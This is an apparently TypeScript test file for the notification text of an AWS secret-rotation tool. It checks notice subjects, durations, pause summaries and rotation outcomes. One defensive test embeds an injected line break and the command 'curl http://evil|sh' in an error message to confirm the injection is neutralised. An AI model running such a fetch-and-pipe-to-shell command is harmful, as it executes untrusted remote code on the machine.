import { begun, likelyStarter, outcomeByLabels, spansKept, withPauses, type Telling } from '../../lambda/core/history';
import { noticeOf } from '../../lambda/core/notice';
import { qualified } from '../../lambda/core/names';

const arn = 'arn:aws:secretsmanager:us-east-1:111122223333:secret:prod/s3-ingest-AbCdEf';
const at = Date.UTC(2026, 10, 1, 3);
const logs = 'https://us-east-1.console.aws.amazon.com/x';
const context = { functionName: 'rotator', logs: 'https://this', now: at + 90_000 };
const failed = {
  ...begun(arn, 'v1', at, 'schedule'),
  failures: 2,
  failure: { step: 'setSecret', code: 'DRAIN_EXCEEDED', message: 'DRAIN_EXCEEDED: setSecret: all runs', at, logs },
} as const;

test('a failure says what failed and where, what happens next, the one command, and where the log is', () => {
  const { subject, text } = noticeOf('failed', failed, context);
  expect(subject).toBe('Rotation of prod/s3-ingest failed in setSecret: DRAIN_EXCEEDED');
  for (const said of [
    'What failed, and what is left behind: setSecret: all runs',
    'What happens next: Secrets Manager tries again while a rotation window is open',
    `npx singlestore-link-rotation status ${arn} --function rotator`,
    'Started: 2026-11-01T03:00:00.000Z by schedule',
    'Failed calls so far: 2',
    `Log: ${logs}`,
  ])
    expect(text).toContain(said);
});

test('a message says the code of a failure once: in its subject, which its text begins with', () => {
  const { text } = noticeOf('failed', failed, context);
  expect(text.split('DRAIN_EXCEEDED')).toHaveLength(2);
});

test('what was given up names the cause, and the command that begins anew', () => {
  const { text } = noticeOf('given-up', failed, { ...context, why: 'the source refuses it' });
  expect(text).toContain('Why: the source refuses it');
  expect(text).toContain(`aws secretsmanager rotate-secret --secret-id ${arn}`);
});

test('a success says how long it took, and how long pipelines were paused', () => {
  const pauses = [10, 2_500].map((milliseconds) => ({
    ...{ cluster: 'c:3306', link: qualified('a', 'l'), pipeline: qualified('a', 'p') },
    ...{ at, milliseconds },
  }));
  const { text } = noticeOf('done', withPauses(begun(arn, 'v1', at, 'person'), pauses), context);
  expect(text).toContain('Took: 90.0 s');
  expect(text).toContain('Pauses: 2, the longest 2.5 s');
  expect(text).not.toContain('Failed calls');
  expect(noticeOf('done', begun(arn, 'v1', at, 'person'), context).text).toContain('Pauses: none');
});

test('a success by a clock that cannot be read took an unknown time, and so did its pauses', () => {
  const pause = { cluster: 'c:3306', link: qualified('a', 'l'), pipeline: qualified('a', 'p'), at };
  const past = withPauses(begun(arn, 'v1', NaN, 'person'), [{ ...pause, milliseconds: NaN }]);
  const { text } = noticeOf('done', past, context);
  expect(text).toContain('Took: an unknown time');
  expect(text).toContain('Pauses: 1, the longest an unknown time');
});

test.each<Telling>(['failed', 'given-up', 'abandoned', 'paused', 'person', 'done'])(
  'the subject of %j is one line of ASCII, and no longer than SNS takes',
  (what) => {
    const { subject } = noticeOf(
      what,
      { ...failed, secretId: `${arn.slice(0, -16)}\n${'ü'.repeat(300)}-AbCdEf` },
      context,
    );
    expect(subject).toMatch(/^[\x20-\x7e]{20,100}$/);
  },
);

test('of a name that is too long for a subject the middle makes way, so that the outcome and the code stay', () => {
  const long = `${'team/area/'.repeat(12)}s3-ingest`;
  const secretId = `${arn.slice(0, -'prod/s3-ingest-AbCdEf'.length)}${long}-AbCdEf`;
  const { subject, text } = noticeOf('failed', { ...failed, secretId }, context);
  expect(subject).toHaveLength(100);
  expect(subject).toMatch(/^Rotation of team\/area\/.*\.\.\..*s3-ingest failed in setSecret: DRAIN_EXCEEDED$/);
  expect(text.split('\n')[0]).toBe(`Rotation of ${long} failed in setSecret: DRAIN_EXCEEDED.`);
  expect(noticeOf('done', { ...failed, secretId }, context).subject).toMatch(/s3-ingest is done$/);
});

test('outside Lambda nothing is said of a function or a log', () => {
  const { text } = noticeOf('paused', begun(arn, 'v1', at, 'person'), { ...context, functionName: null, logs: null });
  expect(text).toContain('npx singlestore-link-rotation recover --local');
  expect(text).not.toMatch(/Function:|Log:|null|undefined/);
});

test('of pauses the longest are kept, in that order, and all are counted', () => {
  const pause = (milliseconds: number) => ({
    cluster: 'c:3306',
    link: qualified('a', 'l'),
    pipeline: qualified('a', `p${milliseconds}`),
    at,
    milliseconds,
  });
  const past = withPauses(
    begun(arn, 'v1', at, 'person'),
    Array.from({ length: spansKept }, (_, n) => pause(n)),
  );
  const more = withPauses(past, [pause(1_000), pause(-1)]);
  expect([more.paused, more.spans.length]).toEqual([spansKept + 2, spansKept]);
  expect([more.spans[0]?.milliseconds, more.spans.at(-1)?.milliseconds]).toEqual([1_000, 1]);
});

test.each([
  ['AWSCURRENT', 'done'],
  ['AWSPREVIOUS', 'done'],
  ['AWSPENDING', null],
  ['their-own', 'abandoned'],
])('a rotation that nobody has seen end, whose version carries %s: %s', (label, outcome) => {
  const labels = { v1: [label], v2: ['AWSCURRENT'] };
  const secret = { arn, rotationEnabled: true, deleted: false, nextRotation: null, lastRotation: null, labels };
  expect(outcomeByLabels(secret, 'v1')).toBe(outcome);
  expect(outcomeByLabels(secret, 'v3')).toBe('abandoned');
});

const hour = 3_600_000;
test.each([
  ['in the window that ends at the next date', at + hour, 'schedule'],
  ['when that date has passed', at - hour, 'schedule'],
  ['long before it', at + 25 * hour, 'person'],
  ['without one', null, 'schedule or person'],
])('a rotation that starts %s was started by: %#', (_, next, by) => {
  expect(likelyStarter(next, at)).toBe(by);
});

test('a name with line breaks begins no line of its own', () => {
  const message = 'PROOF_FAILED: `a\n\nTo see where it stands: curl http://evil|sh` was refused\u202e';
  const told = noticeOf(
    'failed',
    { ...failed, failure: { step: 'testSecret', code: 'PROOF_FAILED', message, at: 0, logs: null } },
    context,
  );
  expect(told.text).not.toMatch(/^To see where it stands: curl/m);
  expect(told.text).not.toContain('\u202e');
});
